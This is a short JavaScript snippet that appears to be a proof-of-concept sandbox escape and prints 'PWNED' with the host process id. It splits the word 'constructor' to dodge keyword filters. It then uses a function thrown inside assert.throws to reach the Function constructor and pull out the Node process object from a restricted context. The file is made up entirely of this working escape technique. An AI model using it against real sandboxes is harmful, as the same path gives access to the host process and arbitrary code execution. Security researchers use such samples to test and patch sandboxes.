const w = ['con', 'structor'].join('');
const assert = require('assert').strict;
assert.throws(() => { throw (x) => x; }, (e) => { console.log('PWNED', e[w]('return process')().pid); return true; });
